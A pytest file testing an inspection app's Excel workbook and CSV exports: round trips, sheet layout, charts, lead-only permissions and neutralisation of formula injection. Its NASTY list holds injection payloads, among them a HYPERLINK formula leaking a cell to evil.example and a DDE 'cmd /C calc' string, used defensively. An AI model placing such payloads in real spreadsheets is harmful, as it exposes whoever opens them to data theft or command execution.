"""The Excel workbook and wide CSV: the round trip on the demonstration data, formula
injection kept inert, the workbook's sheets as a lead inspector opens them, and rows filled
in offline in the exported workbook importing back."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from xml.etree import ElementTree

import pytest
from openpyxl import load_workbook

from fieldwork.files.cells import safe, unquote
from fieldwork import audit, db, startup
from fieldwork.services import findings, importing, inspections
from exports import exporting
from fieldwork.services.permissions import INSPECTOR, Actor, PermissionDenied
from fieldwork.services.store import CaseRecord, add_complete_assessments
from models import User
from tests.conftest import new_database_url
from tests.wide_helpers import LEAD_USER, answers_by_case, audit_actions, case_review_rows, row_counts

NASTY = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
         "\t=1+1", "\r=1+1", "'quoted already"]


@pytest.fixture(scope="module")
def demo_db(tmp_path_factory):
    """The demonstration set (112 case_review + 270 pin_review), loaded once for the module."""
    url = new_database_url(tmp_path_factory.mktemp("demo"), "demo", demo=True)
    engine = startup.open_engine(url)
    yield engine
    db.dispose_all()
    if url.startswith("postgresql"):
        from tests.conftest import _drop_pg_database
        _drop_pg_database(url)


@pytest.fixture(scope="module")
def demo_export(demo_db):
    """questionnaire -> the demonstration data's workbook, exported once for the module (a few
    seconds of CPU each): the tests that take it only read it, and nothing they do to demo_db
    changes what the workbook holds."""
    made: dict[str, bytes] = {}

    def export(questionnaire: str = "case_review") -> bytes:
        if questionnaire not in made:
            made[questionnaire] = workbook_bytes(demo_db, questionnaire)
        return made[questionnaire]

    return export


def workbook_bytes(engine, questionnaire="case_review", **kw) -> bytes:
    with db.session_scope(engine) as s:
        return exporting.export_workbook(s, LEAD_USER, questionnaire, **kw)


def csv_text(engine, questionnaire="case_review", **kw) -> str:
    with db.session_scope(engine) as s:
        return exporting.export_csv(s, LEAD_USER, questionnaire, **kw).decode("utf-8")


def findings_json(engine, questionnaire: str, by: str | None = None) -> dict:
    with db.session_scope(engine) as s:
        return findings.compute(s, questionnaire, by=by).to_contract()


def import_into(url: str, data: bytes, name: str, questionnaire: str):
    engine = startup.open_engine(url)
    table = importing.read_table(data, name)
    if "meta:inspector" in table.header:  # the receiving database has the inspectors' accounts, as it must
        at = table.header.index("meta:inspector")
        named = {unquote(str(cells[at])).strip().lower() for _, cells in table.rows if at < len(cells) and cells[at]}
        with db.session_scope(engine) as s:
            s.add_all(User(name=n, role="inspector", password_hash="!") for n in sorted(named))
    with db.session_scope(engine) as s:
        importing.import_file(s, LEAD_USER, questionnaire, data, name)
    return engine


# --- the round trip -------------------------------------------------------------------------


@pytest.mark.parametrize("questionnaire, by", [("case_review", "force"), ("pin_review", "force")])
def test_workbook_reimports_into_an_empty_database_with_identical_answers_and_findings(
        demo_db, demo_export, tmp_path, questionnaire, by):
    data = demo_export(questionnaire)
    empty = new_database_url(tmp_path, "again")
    again = import_into(empty, data, f"{questionnaire}.xlsx", questionnaire)
    assert answers_by_case(again, questionnaire) == answers_by_case(demo_db, questionnaire)
    assert findings_json(again, questionnaire) == findings_json(demo_db, questionnaire)
    assert findings_json(again, questionnaire, by) == findings_json(demo_db, questionnaire, by)
    assert findings_json(again, questionnaire)["cases"] == (112 if questionnaire == "case_review" else 270)


def test_wide_csv_with_notes_round_trips_every_answer_note_and_inspector(engine, tmp_path):
    with db.session_scope(engine) as s:
        rows = case_review_rows(s, 6)
        inspection = inspections.inspection_by_code(s)
        version = inspections.current_version(s, "case_review")
        records = [CaseRecord(r["case_ref"], {k: v for k, v in r.items() if k != "case_ref"},
                              {"plea": NASTY[i], "force": f"Seen in MG3 p.{i} “quoted” £5"}, inspector=f"inspector{i}")
                   for i, r in enumerate(rows)]
        add_complete_assessments(s, inspection_id=inspection.id, version=version, records=records, created_by="t")
    text = csv_text(engine, with_notes=True)
    again = import_into(new_database_url(tmp_path, "again"), text.encode(), "x.csv", "case_review")
    assert answers_by_case(again) == answers_by_case(engine)
    with db.session_scope(again) as s:
        from models import Assessment
        assert sorted(s.exec(Assessment.__table__.select().with_only_columns(Assessment.inspector)).scalars()) == \
            [f"inspector{i}" for i in range(6)]


# --- injection ------------------------------------------------------------------------------


@pytest.mark.parametrize("text", NASTY)
def test_safe_neutralises_and_unquote_restores(text):
    assert safe(text).startswith("'")
    assert unquote(safe(text)) == text
    assert safe("Seen on p.4") == "Seen on p.4" and safe(5) == 5 and safe(None) is None


def _nasty(engine, *, nasty_inspector: bool):
    """Cases whose evidence notes are the injection strings (and, with ``nasty_inspector``, one
    whose stored inspector name is one: data from before accounts were required)."""
    with db.session_scope(engine) as s:
        rows = case_review_rows(s, len(NASTY))
        inspection = inspections.inspection_by_code(s)
        version = inspections.current_version(s, "case_review")
        records = [CaseRecord(r["case_ref"], {k: v for k, v in r.items() if k != "case_ref"},
                              {"initial_risk_assessment": n},
                              inspector=n if i == 0 and nasty_inspector else "inspector1")
                   for i, (r, n) in enumerate(zip(rows, NASTY))]
        add_complete_assessments(s, inspection_id=inspection.id, version=version, records=records, created_by="t")
    return engine


@pytest.fixture
def nasty_db(engine):
    return _nasty(engine, nasty_inspector=True)


@pytest.mark.slow
def test_injection_stays_inert_in_the_workbook(nasty_db):
    data = workbook_bytes(nasty_db, with_notes=True)
    wb = load_workbook(io.BytesIO(data))
    for sheet in ("responses", "responses_labels"):
        ws = wb[sheet]
        header = [c.value for c in ws[1]]
        col = header.index("note:initial_risk_assessment")
        cells = [row[col] for row in ws.iter_rows(min_row=2, max_row=len(NASTY) + 1)]
        assert all(c.data_type == "s" and c.value.startswith("'") for c in cells)
        assert {unquote(c.value) for c in cells} == set(NASTY)
        inspector = [row[header.index("meta:inspector")].value for row in ws.iter_rows(min_row=2)]
        assert any(v == safe(NASTY[0]) for v in inspector)
    # no formula anywhere in the package
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name)


@pytest.mark.parametrize("labels", [False, True])
def test_injection_stays_inert_in_csv(nasty_db, labels):
    text = csv_text(nasty_db, with_notes=True, labels=labels)
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert all(not c or c[0] not in "=+-@\t\r" for c in cells)
    for n in NASTY:
        assert safe(n) in cells


def test_injected_notes_re_import_as_typed(engine, tmp_path):
    # meta:inspector must name an account on import (issue 17), and no account can be named
    # like a formula: the notes carry the injection strings here
    data = workbook_bytes(_nasty(engine, nasty_inspector=False), with_notes=True)
    again = import_into(new_database_url(tmp_path, "again"), data, "x.xlsx", "case_review")
    notes = {n for _, (_, ns) in answers_by_case(again).items() for n in ns.values()}
    assert notes == set(NASTY)


# --- the workbook as a lead inspector opens it ----------------------------------------------


@pytest.fixture(scope="module")
def demo_workbook(demo_export):
    return load_workbook(io.BytesIO(demo_export()))


def test_workbook_sheets(demo_workbook):
    assert demo_workbook.sheetnames == [
        "cover", "findings", "charts", "findings_by_force", "findings_by_cps_area", "findings_by_domestic_abuse",
        "responses", "responses_labels", "data_dictionary", "code_lists", "case_examples"]
    assert demo_workbook["code_lists"].sheet_state == "hidden"


def test_cover_sheet_says_what_whose_when_how_counted_and_that_notes_are_left_out(demo_workbook):
    cover = {r[0]: r[1] for r in demo_workbook["cover"].iter_rows(values_only=True) if r and r[0]}
    assert "Living in fear" in cover["Inspection"]
    assert "case_review" in cover["Questionnaire"] and "2017.2" in cover["Questionnaire"]
    assert cover["Exported by"] == "lead1" and cover["Exported at"].endswith("UTC")
    assert cover["Complete assessments (counted)"] == 112 and cover["Draft assessments (not counted)"] == 0
    assert cover["Evidence notes"].startswith("not included") and "de-identified" in cover["Evidence notes"]
    text = " ".join(str(v) for r in demo_workbook["cover"].iter_rows(values_only=True) for v in r if v)
    assert "rounded to a whole number half up" in text and "not applicable" in text


def test_findings_sheet_holds_real_excel_percentages(demo_workbook, demo_db):
    ws = demo_workbook["findings"]
    header = [c.value for c in ws[1]]
    assert header[:10] == ["finding", "label", "kind", "answer", "answer_label", "count", "denominator", "percent",
                           "not_known", "not_applicable"]
    rows = {(r[0].value, r[3].value): r for r in ws.iter_rows(min_row=2)}
    ira = rows[("initial_risk_assessment", "yes")]
    assert (ira[5].value, ira[6].value, ira[7].value) == (60, 112, 0.54)
    assert ira[7].number_format == "0%" and ira[8].value == 1
    assert "60" in ira[10].value
    expected = findings_json(demo_db, "case_review")
    assert len(rows) == len(expected["findings"])


def test_breakdown_sheets_hold_one_entry_per_group(demo_workbook, demo_db):
    ws = demo_workbook["findings_by_force"]
    groups = {r[0] for r in ws.iter_rows(min_row=2, values_only=True)}
    assert groups == {"avon_and_somerset", "durham", "greater_manchester", "gwent", "hampshire", "sussex"}
    by_force = findings_json(demo_db, "case_review", "force")
    assert ws.max_row - 1 == sum(1 for f in by_force["findings"] if f["group"] is not None)


def test_tables_filters_frozen_headers_and_widths(demo_workbook):
    for name in ("findings", "findings_by_force", "responses", "responses_labels", "data_dictionary"):
        ws = demo_workbook[name]
        assert ws.tables, name
        table = next(iter(ws.tables.values()))
        assert table.autoFilter is not None and table.ref.startswith("A1:")
        assert ws.freeze_panes in ("A2", "B2")
        assert ws.column_dimensions["A"].width >= 8
    assert demo_workbook["responses"].tables["tbl_responses"].ref.endswith(str(112 + 1))


def test_responses_sheet_has_drop_downs_of_each_coded_column(demo_workbook):
    ws = demo_workbook["responses"]
    header = [c.value for c in ws[1]]
    assert header[0] == "case_ref" and header[-1] == "meta:inspector"
    rules = {str(dv.sqref): dv for dv in ws.data_validations.dataValidation}
    letter = lambda name: ws.cell(row=1, column=header.index(name) + 1).column_letter  # noqa: E731
    force = rules[f"{letter('force')}2:{letter('force')}{112 + 1 + 1000}"]
    assert force.type == "list" and force.formula1.startswith("'code_lists'!")
    lists = demo_workbook["code_lists"]
    col = force.formula1.split("!")[1].split(":")[0].replace("$", "")[0]
    codes = [c.value for c in lists[col][1:] if c.value]
    assert "greater_manchester" in codes and len(codes) == 43
    coded = [n for n in header if n not in ("case_ref", "meta:inspector")]
    assert len(rules) == len(coded) + 1  # every coded column, and the case_ref length rule


def test_data_dictionary_describes_every_variable_with_codes_skip_logic_and_criteria(demo_workbook):
    ws = demo_workbook["data_dictionary"]
    header = [c.value for c in ws[1]]
    rows = {r[0]: dict(zip(header, r)) for r in ws.iter_rows(min_row=2, values_only=True)}
    dash = rows["dash_supplementary_questions"]
    assert dash["asked_when"] == "${enhanced_risk_assessment} = 'dash'"
    assert dash["answer_codes"] == "yes\nno" and "3.1" in dash["criteria"]
    assert dash["label"] and dash["guidance"] and "risk" in dash["criteria_text"].lower()
    assert rows["da_sh_risks_not_assessed"]["kind"] == "indicator"
    assert "meta:inspector" in rows and "note:VARIABLE" in rows


@pytest.mark.slow
def test_native_bar_charts_of_the_headline_findings(demo_export):
    data = demo_export()
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        charts = [n for n in zf.namelist() if n.startswith("xl/charts/chart")]
        assert len(charts) == 2
        xml = zf.read(charts[0]).decode()
        assert "barChart>" in xml and 'barDir val="bar"' in xml
    ws = load_workbook(io.BytesIO(data))["charts"]
    labels = [r[0] for r in ws.iter_rows(min_row=2, values_only=True) if r[0]]
    assert any("initial risk assessment" in str(v).lower() for v in labels)


def test_labels_sheet_and_csv_hold_labels(demo_workbook, demo_db):
    ws = demo_workbook["responses_labels"]
    header = [c.value for c in ws[1]]
    values = {r[header.index("plea")] for r in ws.iter_rows(min_row=2, values_only=True)}
    assert values <= {"Guilty", "Not guilty"}
    text = csv_text(demo_db, labels=True)
    assert "Not guilty" in text and ",not_guilty," not in text


def test_csv_is_utf8_without_bom_unless_asked_and_notes_left_out_by_default(demo_db):
    with db.session_scope(demo_db) as s:
        plain = exporting.export_csv(s, LEAD_USER, "case_review")
        bom = exporting.export_csv(s, LEAD_USER, "case_review", bom=True)
    assert plain.startswith(b"case_ref,") and bom.startswith(b"\xef\xbb\xbfcase_ref,")
    assert b"note:" not in plain.split(b"\r\n")[0]


def test_exports_are_for_leads_and_are_audited_without_content(engine):
    with db.session_scope(engine) as s:
        with pytest.raises(PermissionDenied):
            exporting.export_workbook(s, Actor("inspector1", INSPECTOR), "case_review")
    workbook_bytes(engine, with_notes=True, file_name="out.xlsx")
    (event,) = audit_actions(engine, audit.EXPORT)
    detail = json.loads(event.detail)
    assert detail == {**detail, "format": "xlsx", "notes_included": True, "rows": 0, "file": "out.xlsx"}


# --- offline: the exported workbook as a form ----------------------------------------------


def test_rows_typed_into_the_exported_workbook_import(engine, tmp_path):
    template = load_workbook(io.BytesIO(workbook_bytes(engine)))  # an empty inspection: header and drop-downs
    ws = template["responses"]
    header = [c.value for c in ws[1]]
    with db.session_scope(engine) as s:
        rows = case_review_rows(s, 3, prefix="OFF")
    for i, r in enumerate(rows, start=2):
        for j, name in enumerate(header, start=1):
            ws.cell(row=i, column=j, value=r.get(name))
    path = tmp_path / "offline.xlsx"
    template.save(path)
    before = row_counts(engine)
    with db.session_scope(engine) as s:
        result = importing.import_file(s, LEAD_USER, "case_review", path.read_bytes(), path.name)
    assert result.written == 3 and row_counts(engine)[1] == before[1] + 3
    assert set(answers_by_case(engine)) == {"OFF-0001", "OFF-0002", "OFF-0003"}


def test_native_charts_carry_the_95_percent_interval_as_error_bars(demo_export):
    """Issue 13: each bar's Wilson interval, as custom error bars read from the charts sheet."""
    data = demo_export()
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        xml = zf.read("xl/charts/chart1.xml")
    c = "{http://schemas.openxmlformats.org/drawingml/2006/chart}"
    (bars,) = ElementTree.fromstring(xml).iter(f"{c}errBars")
    assert bars.find(f"{c}errValType").get("val") == "cust" and bars.find(f"{c}errBarType").get("val") == "both"
    assert bars.find(f"{c}minus/{c}numRef/{c}f").text.startswith("'charts'!$F$2:$F$")
    assert bars.find(f"{c}plus/{c}numRef/{c}f").text.startswith("'charts'!$G$2:$G$")
    ws = load_workbook(io.BytesIO(data))["charts"]
    header = [c.value for c in ws[1]]
    assert header[:7] == ["finding", "percent", "n", "95% CI from", "95% CI to", "bar less CI from", "CI to less bar"]
    row = next(r for r in ws.iter_rows(min_row=2, values_only=True)
               if r[0] and "initial risk assessment" in str(r[0]).lower() and str(r[2]) == "60 of 112")
    # 60 of 112: 54 % as printed, Wilson 95 % interval 44.4-62.5 (as in the findings JSON)
    assert row[1] == 0.54 and row[3] == 0.444 and row[4] == 0.625
    assert row[5] == round(0.54 - 0.444, 4) and row[6] == round(0.625 - 0.54, 4)
